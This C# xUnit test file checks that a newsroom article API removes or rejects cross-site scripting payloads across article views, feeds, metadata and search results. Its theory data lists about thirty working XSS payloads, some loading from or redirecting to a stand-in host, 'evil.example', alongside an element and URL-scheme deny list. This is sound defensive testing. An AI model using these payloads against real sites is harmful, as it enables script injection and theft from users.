using System.Text.RegularExpressions;
using System.Xml.Linq;
using AngleSharp.Html.Parser;
using Xunit;
using static Integration.Articles.Newsroom;

namespace Integration.Articles;

public partial class AttackTests(Newsroom desk) : IClassFixture<Newsroom>
{
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)></iframe>",
        "\"><script>alert(1)</script>",
        "'-alert(1)-'<b onmouseover=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<style>@import '//evil.example/x.css'</style>",
        "<form action=//evil.example><input name=x>",
        "<body onload=alert(1)>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<object data=data:text/html;base64,PHNjcmlwdD4=>",
        "<embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<\u0001script>alert(1)</script>",
        "<img src=\"x\" srcset=\"x 1x, javascript:alert(1) 2x\" onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Script_in_any_field_is_removed_from_html_and_feeds(string attack)
    {
        var id = Guid.CreateVersion7();
        await Ok(
            desk.Put(
                id,
                Body(
                    new
                    {
                        en = Text($"Title {attack} end", $"<p>Body {attack}</p>", $"Lead {attack}"),
                        ru = Text($"Имя {attack}", $"Markdown {attack}", "x", format: "markdown"),
                    },
                    "news",
                    ["trade"],
                    ("author", $"Author {attack}"),
                    ("source", $"Source {attack}"),
                    (
                        "cover",
                        new
                        {
                            url = "https://example.org/?q=" + Uri.EscapeDataString(attack) + "\"'<>",
                            alt = new { en = $"Alt {attack}" },
                        }))));
        await Ok(desk.Post($"/api/articles/{id}/publish", new { correction = $"Note {attack}" }));

        foreach (var path in new[] { $"/api/articles/{id}?lang=en", $"/api/articles/{id}?lang=ru", $"/api/articles/{id}/print" })
        {
            var view = await desk.Get(path);
            AssertHarmless(view.GetProperty("bodyHtml").GetString()!);
            foreach (var field in new[] { "title", "lead", "author", "source" }) AssertPlainText(view.GetProperty(field).GetString()!);
            AssertPlainText(view.GetProperty("cover").GetProperty("alt").GetString()!);
            Assert.StartsWith("https://example.org/", view.GetProperty("cover").GetProperty("url").GetString(), StringComparison.Ordinal);
            Assert.DoesNotMatch("[<>\"]", view.GetProperty("cover").GetProperty("url").GetString());
            if (view.TryGetProperty("slug", out var slug)) Assert.Matches("^[a-z0-9-]+$", slug.GetString());
        }
        var metadata = (await desk.Get($"/api/articles/{id}/metadata")).GetProperty("jsonLd").ToString();
        Assert.DoesNotContain("</script", metadata, StringComparison.OrdinalIgnoreCase);
        AssertHarmless(Markdig.Markdown.ToHtml(await desk.Text($"/api/articles/{id}/text?format=markdown")));

        foreach (var feed in new[]
        {
            "/feeds/en/rss.xml",
            "/feeds/en/atom.xml",
            "/feeds/ru/rss.xml",
            "/feeds/ru/atom.xml",
            "/sitemap-news.xml",
        })
            // Some feed readers interpret the text of any element as HTML.
            foreach (var text in XDocument.Parse(await desk.Text(feed)).DescendantNodes().OfType<XText>()) AssertHarmless(text.Value);
        foreach (var item in (await desk.Get("/feeds/en/feed.json")).GetProperty("items").EnumerateArray())
        {
            AssertHarmless(item.GetProperty("content_html").GetString()!);
            AssertHarmless(item.GetProperty("title").GetString()!);
        }
        foreach (var item in (await desk.Get("/api/articles?q=title")).GetProperty("items").EnumerateArray())
            AssertHarmless(item.GetProperty("highlights").ToString());
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Script_is_rejected_as_tag_slug_section_or_address(string attack)
    {
        foreach (var body in new[]
        {
            Body(English(), tags: [attack]),
            Body(English(slug: attack)),
            Body(English(), attack),
            Body(English(), "news", null, ("cover", new { url = attack, alt = new { en = "x" } })),
        })
            Assert.Equal(400, (int)(await desk.Put(Guid.CreateVersion7(), body)).StatusCode);
    }

    /// <summary>Asserts that an HTML parser finds no active element, attribute or address.</summary>
    private static void AssertHarmless(string html)
    {
        foreach (var element in new HtmlParser().ParseDocument($"<body>{html}</body>").Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(
                element.LocalName,
                new[]
                {
                    "script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "svg", "math", "template",
                    "noscript", "xmp", "details", "body",
                });
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(
                    attribute.LocalName, new[] { "href", "title", "src", "alt", "width", "height", "lang", "colspan", "rowspan" });
                if (attribute.LocalName is "href" or "src") Assert.DoesNotMatch(Address(), attribute.Value);
            }
        }
    }

    /// <summary>Asserts that a text contains no tag, so that it is harmless even if a client shows it as HTML.</summary>
    private static void AssertPlainText(string text)
    {
        Assert.DoesNotMatch("<[a-zA-Z/!?]", text);
        Assert.DoesNotMatch("[\u0000-\u0008\u000b\u000c\u000e-\u001f]", text);
    }

    [GeneratedRegex(@"^\s*(javascript|data|vbscript)\s*:", RegexOptions.IgnoreCase)]
    private static partial Regex Address();
}
